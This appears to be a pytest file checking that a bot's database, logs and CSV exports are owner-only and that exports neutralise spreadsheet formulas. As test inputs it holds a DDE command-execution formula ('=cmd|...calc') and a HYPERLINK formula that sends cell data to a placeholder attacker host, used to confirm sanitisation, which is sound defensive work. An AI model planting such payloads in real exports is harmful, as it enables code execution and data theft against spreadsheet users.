"""Issue 17: files that hold personal data are owner-only; exports never carry live formulas."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from loguru import logger

from bot import logs
from bot.cases import open_case
from bot.cli import main
from bot.store import Store

UNIT = Path(__file__).resolve().parents[2] / "contrib" / "dianhua.service"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def loose_umask() -> Iterator[None]:
    """The machine's usual umask (022): what made the files 0644 before."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_database_wal_and_shm_are_0600_in_a_0700_folder(tmp_path: Path, loose_umask: None) -> None:
    db = tmp_path / "state" / "data" / "dianhua.db"
    store = Store(db)
    store.watch_article("main", "1", 0)  # something in the WAL
    for path in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
        assert path.exists() and mode(path) == 0o600, path.name
    assert mode(db.parent) == 0o700 and mode(db.parent.parent) == 0o700
    store.close()
    db.chmod(0o644)  # a file from an older version is tightened when opened
    Store(db).close()
    assert mode(db) == 0o600


def test_the_log_file_is_0600_in_a_0700_folder(tmp_path: Path, loose_umask: None) -> None:
    log = tmp_path / "log" / "dianhua.jsonl"
    logs.setup(level="INFO", file=log, stderr=False)
    logger.info("hello")
    logger.complete()
    assert mode(log) == 0o600 and mode(log.parent) == 0o700
    logger.remove()


def test_the_command_line_sets_umask_077(loose_umask: None) -> None:
    CliRunner().invoke(main, ["--help"])
    CliRunner().invoke(main, ["users", "--help"])  # the group callback runs for subcommands
    current = os.umask(0o022)
    assert current == 0o077


def _one_case(db: Path, text: str) -> None:
    store = Store(db)
    key = store.watch_article("main", "1", 0)
    article = store.article(key)
    assert article is not None
    store.store_comments(article, [{"user_comment_id": 1, "openid": "o1", "content": text,
                                    "create_time": 1}], new_cursor=1, next_poll_at=store.clock())
    comment = store.comment(f"{key}:1")
    assert comment is not None
    with store.transaction() as db_:
        open_case(db_, comment, at=store.now(), route="=cmd|' /C calc'!A0")
    store.close()


def test_export_neutralises_formulas_and_writes_an_owner_only_file(tmp_path: Path,
                                                                    loose_umask: None) -> None:
    db = tmp_path / "e.db"
    _one_case(db, '=HYPERLINK("http://evil.example/?x="&A1,"点我")')
    runner = CliRunner()
    r = runner.invoke(main, ["cases", "export", "--db", str(db)])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert rows[0]["comment"].startswith("'=HYPERLINK(")
    assert rows[0]["route"].startswith("'=cmd|")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    out = tmp_path / "exports" / "cases.csv"
    r = runner.invoke(main, ["cases", "export", "--db", str(db), "--output", str(out)])
    assert r.exit_code == 0 and mode(out) == 0o600 and mode(out.parent) == 0o700
    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")


def test_the_systemd_unit_is_hardened() -> None:
    unit = UNIT.read_text(encoding="utf-8")
    for line in ("UMask=0077", "NoNewPrivileges=true", "ProtectSystem=strict",
                 "ReadWritePaths=/var/lib/dianhua /var/log/dianhua", "StateDirectoryMode=0700",
                 "LogsDirectoryMode=0700", "PrivateTmp=true", "StartLimitBurst=5"):
        assert f"\n{line}\n" in unit, line
